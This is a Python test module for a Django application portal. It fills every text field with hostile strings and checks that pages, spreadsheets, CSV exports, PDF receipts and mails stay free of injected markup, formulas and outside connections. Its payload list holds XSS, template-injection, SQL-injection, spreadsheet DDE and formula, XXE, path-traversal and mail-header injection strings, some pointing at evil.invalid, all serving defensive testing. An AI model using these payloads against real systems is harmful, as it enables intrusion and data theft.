"""Hostile strings in every text field of a dossier, and what is looked at afterwards: pages, sheets, lists, letters, mails.

Fields are found in the pages themselves: whatever takes text takes the string. A page is safe when it holds no element and no
attribute that it does not hold with an ordinary text; a sheet, when its formulas are those it has with one.
"""

import csv
import io
import re
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlencode

import lxml.html
import pikepdf
from django.test import Client
from django.urls import reverse

from tests.addresses import named

ORDINARY = ("\u00a0", "7", "Texte ordinaire")  # what people type: nothing, a figure, words; pages have a shape for each
BASES = (
    "<script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</title><svg onload=window.pwned=1>",
    "<img src=x onerror=window.pwned=1>",
    "<img src='http://evil.invalid/x.png'>",
    "<iframe srcdoc='<script>window.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>clic</a>",
    "<body onpageshow=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<style>@import 'http://evil.invalid/a.css';</style>",
    "<link rel=stylesheet href=http://evil.invalid/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href='http://evil.invalid/'>",
    "<form action='http://evil.invalid/'><button>Envoyer</button></form>",
    "<object data='file:///etc/passwd'></object>",
    "<math><mi xlink:href='javascript:window.pwned=1'>x</mi></math>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    '" autofocus onfocus="window.pwned=1',
    "' onmouseover='window.pwned=1",
    "`-window.pwned-`",
    "{{ settings.SECRET_KEY }}",
    "{% load i18n %}{% include 'pdf/base.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %n {0} {}",
    '=HYPERLINK("http://evil.invalid/"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'; DROP TABLE applications_answer; --",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "a\r\nBcc: victime@evil.invalid\r\n\r\nCorps",
    "\u202eelpmexe\u202c",
    "\u2066\u2067\u2068isolé\u2069\u2069\u2069",
    "a\u200bb\u200dc\ufeffd",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0349\u0355lgo",
    "👩‍👩‍👧‍👦🏴‍☠️🇫🇷",
    "نص عربي <b>gras</b> עברית",
    "x" * 900,
    "<" * 400,
    "\u00a0\u202f\u2003",
    "null",
    "NaN",
    "-0",
    "true",
    "\\x3cscript\\x3ewindow.pwned=1\\x3c/script\\x3e",
    "&lt;script&gt;&#60;script&#62;&amp;amp;",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "\x01\x02\x07\x0b\x1b[31m\x7f",
    "\x00début",
    "fin\x00",
    "\ud800",
    "\udfff<script>window.pwned=1</script>",
    "a" * 1_000_000,
)
WRAPS = (
    "{}",
    "Bonjour {} au revoir",
    "«\u00a0{}\u00a0»",
    "{0}{0}",
    "\n{}\n",
    "<b>{}</b>",
)
STRINGS = tuple(dict.fromkeys(wrap.format(base) for wrap in WRAPS for base in BASES))[:300]
SENTENCE = re.compile(r"error-message|error-summary|notice")
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Told:
    strings: int = 0
    fields: int = 0
    refused: int = 0
    pages: int = 0
    sheets: int = 0
    letters: int = 0
    addresses: set[str] = field(default_factory=set)
    wrong: list[str] = field(default_factory=list)


def page(name: str, *args: Any) -> str:
    return reverse(named(name), args=args)


class Attack:
    """alice writes VALMONT-like dossier `ready` (tests/applications/world.py, deepened), sophie deposits it, driss reads it."""

    def __init__(self, world: Any, ready: Any) -> None:
        self.world, self.ready, self.told = world, ready, Told()
        self.alice, self.sophie, self.driss = (self._in(who) for who in ("alice", "sophie", "driss"))
        self.usual: dict[str, set[tuple[str, tuple[str, ...]]]] = {}
        self.formulas: dict[str, set[str]] = {}

    def _in(self, who: str) -> Client:
        client = Client(raise_request_exception=False)
        client.force_login(getattr(self.world.cast, who), backend="directory.backends.EmailBackend")
        return client

    # ── in ───────────────────────────────────────────────────────────────────────────────────────────────────────────
    def forms(self) -> Iterator[str]:
        """Pages of the dossier that take text."""
        ready, number = self.ready, self.ready.reference
        project, member = ready.projects.order_by("pk").first(), ready.memberships.get(role="coordinator")
        yield page("identity", number)
        for question in ("ambition", "quality", "sharing"):
            yield page("answer", number, question)
        yield page("project", number, project.pk)
        yield page("indicator", number, project.pk, project.indicators.first().pk)
        yield page("perimeter", number, ready.perimeters.first().pk)
        package = ready.packages.first()
        yield page("work_package", number, package.pk)
        yield page("milestone", number, package.milestones.first().pk)
        yield page("deliverable", number, package.deliverables.first().pk)
        yield page("warehouse", number, ready.warehouses.first().pk)
        yield page("function", number, "collect")
        yield page("matching", number, ready.matchings.first().pk)
        yield page("governance", number)
        yield page("work", number, member.pk)
        yield page("open_thread", number)

    def write(self, text: str) -> None:
        """The string in each text field of each page; a field that refuses it keeps what it had, and says why."""
        for path in self.forms():
            shown = self.alice.get(path)
            typed, texts = fields_of(shown.content, path)
            self.told.fields += len(texts)
            while texts:
                answer = self.alice.post(path, sent(typed | dict.fromkeys(texts, text)), FORM)
                self._answered(path, text, answer)
                if answer.status_code == 413 and len(texts) > 1:  # too much for one form: in each of its fields in turn
                    for name in texts:
                        self._answered(path, text, self.alice.post(path, sent(typed | {name: text}), FORM))
                    break
                refused = refused_in(answer) & set(texts) if answer.status_code == 422 else set()
                if not refused:
                    break
                texts = [name for name in texts if name not in refused]
                self.told.refused += len(refused)

    def _answered(self, path: str, text: str, answer: Any) -> None:
        if answer.status_code not in (302, 413, 422):
            self.told.wrong.append(f"{path}: {answer.status_code} for {text[:40]!r}")
        elif answer.status_code == 413 and len(text) < 100_000:
            self.told.wrong.append(f"{path}: too much, {text[:40]!r}")
        elif answer.status_code == 422 and not SENTENCE.search(answer.content.decode(errors="replace")):
            self.told.wrong.append(f"{path}: refused without a sentence, {text[:40]!r}")

    # ── out ──────────────────────────────────────────────────────────────────────────────────────────────────────────
    def readings(self) -> Iterator[tuple[Client, str]]:
        number = self.ready.reference
        for path in self.forms():
            yield self.alice, path
        for name in (
            "dossier", "narrative", "projects", "perimeters", "warehouses", "socles", "schedule",
            "consortium", "budgets", "pieces", "check", "sections", "threads",
        ):  # fmt: skip
            yield self.alice, page(name, number)
        yield self.alice, page("history", number, "identity.title")
        yield self.alice, page("history", number, "answers.ambition")
        yield self.sophie, page("submit", number)
        yield self.driss, reverse("dashboards:register")

    def look(self, text: str, *, usual: bool = False) -> None:
        """Every page holds what it holds with an ordinary text, and nothing else."""
        for client, path in self.readings():
            answer = client.get(path)
            self.told.pages += 1
            if answer.status_code != 200:
                self.told.wrong.append(f"{path}: {answer.status_code} after {text[:40]!r}")
                continue
            held = shape(answer.content)
            if usual:
                self.usual.setdefault(path, set()).update(held)
            elif more := held - self.usual[path] - HARMLESS:
                self.told.wrong.append(f"{path}: {sorted(more)} after {text[:40]!r}")
        self._sheets(text, usual)
        self._list(text)

    def _sheets(self, text: str, usual: bool) -> None:
        ready = self.ready
        warehouse, member = ready.warehouses.first().pk, ready.memberships.get(role="coordinator").pk
        for ending in ("xlsx", "ods"):
            for path in (
                page("annex_file", ready.reference, ending),
                page("budget_file", ready.reference, member, ending),
                page("socle_file", ready.reference, warehouse, ending),
            ):
                answer = self.alice.get(path)
                if answer.status_code == 404 and ending == "ods":
                    continue
                if answer.status_code != 200:
                    self.told.wrong.append(f"{path}: {answer.status_code} after {text[:40]!r}")
                    continue
                self.told.sheets += 1
                found = formulas(b"".join(answer.streaming_content) if answer.streaming else answer.content)
                if usual:
                    self.formulas[path] = found
                elif found != self.formulas[path]:
                    self.told.wrong.append(
                        f"{path}: formulas {sorted(found ^ self.formulas[path])} after {text[:40]!r}"
                    )

    def _list(self, text: str) -> None:
        body = self.driss.get(reverse("dashboards:register_file", args=["csv"])).content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=";"):
            live = [cell for cell in row if cell.startswith(FORMULAS)]
            if live:
                self.told.wrong.append(f"dossiers.csv: {live} after {text[:40]!r}")

    def letter(self, text: str) -> None:
        """The receipt of a version deposited with the string: no link, no script, no action of its own."""
        from applications import actions
        from applications.models import Application
        from applications.reactions.receipt import receipt_context
        from edsh_portal import pdf
        from edsh_portal.workflow import Refused

        application = Application.objects.select_related("wave__settings", "wave__call", "coordinator").get(
            pk=self.ready.pk
        )
        try:
            version = actions.submit(application, by=self.world.cast.sophie)
        except Refused:
            return  # what was refused field by field left too little: there is no letter
        made = pdf.render("pdf/receipt.html", receipt_context(version), title=f"Accusé {version.receipt_number}")
        self.told.letters += 1
        with pikepdf.open(io.BytesIO(made)) as document:
            for thing in document.objects:
                if isinstance(thing, pikepdf.Dictionary) and {"/URI", "/JS", "/Launch", "/OpenAction"} & set(
                    thing.keys()
                ):
                    self.told.wrong.append(f"receipt: {sorted(thing.keys())} after {text[:40]!r}")

    def mails(self, text: str) -> None:
        from edsh_portal.models import Mail

        for mail in Mail.objects.order_by("pk"):
            if "\n" in mail.subject or "\r" in mail.subject or len(text.strip()) > 8 and text.strip() in mail.body:
                self.told.wrong.append(f"mail « {mail.subject[:60]} » carries {text[:40]!r}")


HARMLESS = {("br", ()), ("p", ()), ("ins", ()), ("del", ())}


def shape(content: bytes) -> set[tuple[str, tuple[str, ...]]]:
    """{(element, its attributes' names)} of a page."""
    root = lxml.html.fromstring(content)
    return {
        (str(element.tag), tuple(sorted(element.attrib)))
        for element in root.iter()
        if isinstance(element.tag, str) and element.tag not in ("br", "p", "ins", "del")
    }


def fields_of(content: bytes, path: str) -> tuple[dict[str, Any], list[str]]:
    """What the main form of a page would send as it stands, and the names of its text fields."""
    root = lxml.html.fromstring(content)
    form = next(one for one in root.forms if (one.get("action") or path) == path and one.method == "POST")
    typed = dict(form.form_values())
    several: dict[str, list[str]] = {}
    for name, value in form.form_values():
        several.setdefault(name, []).append(value)
    texts = [
        one.name
        for one in form.inputs
        if one.name
        and (
            one.tag == "textarea"
            or one.tag == "input"
            and one.get("type", "text") in ("text", "email", "url", "search")
        )
        and one.get("inputmode") != "numeric"
    ]
    return typed | {name: values if len(values) > 1 else values[0] for name, values in several.items()}, texts


FORM = "application/x-www-form-urlencoded"


def sent(values: dict[str, Any]) -> str:
    """The body of a form, lone surrogates as the bytes that stand for nothing: no browser sends them, anybody may."""
    return urlencode(values, doseq=True, errors="surrogatepass")


def refused_in(answer: Any) -> set[str]:
    """The fields that the page says are wrong."""
    return set(lxml.html.fromstring(answer.content).xpath("//*[@aria-invalid='true']/@name"))


def formulas(content: bytes) -> set[str]:
    """Every formula of a workbook, XLSX or OpenDocument."""
    found: set[str] = set()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                text = archive.read(name).decode()
                found.update(re.findall(r"<f[^>]*>(.*?)</f>", text, re.S))
                found.update(re.findall(r'table:formula="([^"]*)"', text))
                found.update(re.findall(r"<hyperlink[^>]*>", text))
    return found


def overhear(told: Told) -> None:
    """From now on, every address this process connects to is noted."""

    def heard(event: str, arguments: tuple[Any, ...]) -> None:
        if event == "socket.connect":
            address = arguments[1]
            if isinstance(address, tuple) and address[0] not in ("127.0.0.1", "::1", "localhost"):
                told.addresses.add(str(address[0]))

    sys.addaudithook(heard)


def run(world: Any, ready: Any, strings: tuple[str, ...], *, letters_every: int = 10) -> Attack:
    from applications import actions

    actions.submit(ready, by=world.cast.sophie)  # once deposited, its people and the service write to each other
    attack = Attack(world, ready)
    overhear(attack.told)
    for text in ORDINARY:
        attack.write(text)
        attack.look(text, usual=True)
    for number, text in enumerate(strings):
        attack.write(text)
        attack.look(text)
        attack.told.strings += 1
        if number % letters_every == 0:
            attack.letter(text)
        attack.mails(text)
    if attack.told.addresses:
        attack.told.wrong.append(f"connections to {sorted(attack.told.addresses)}")
    return attack
